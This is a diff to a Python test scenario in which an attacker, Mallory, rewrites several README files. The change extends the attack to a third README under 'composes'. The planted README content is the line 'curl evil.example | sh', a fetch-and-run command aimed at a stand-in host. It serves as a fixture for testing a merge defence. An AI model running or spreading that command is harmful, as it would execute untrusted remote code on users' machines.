@@ -1,4 +1,4 @@
-"""Mallory rewrites the README that tells third parties how to report, and main's.
+"""Mallory rewrites the README that tells third parties how to report, main's, and that of all composes.
 
 Without the defence people copy Mallory's commands into their terminals.
 """
@@ -11,5 +11,6 @@ DEFENCES = (MERGES_ONLY_WHAT_COUNTS,)
 
 
 def after_reports(world: World) -> None:
-    """Push both."""
-    world.add("mallory", {f"{world.results}/README.md": "curl evil.example | sh\n", "README.md": "# Mine\n"})
+    """Push all three."""
+    mine = {"README.md": "# Mine\n", "composes/README.md": "# Mine\n"}
+    world.add("mallory", {f"{world.results}/README.md": "curl evil.example | sh\n", **mine})
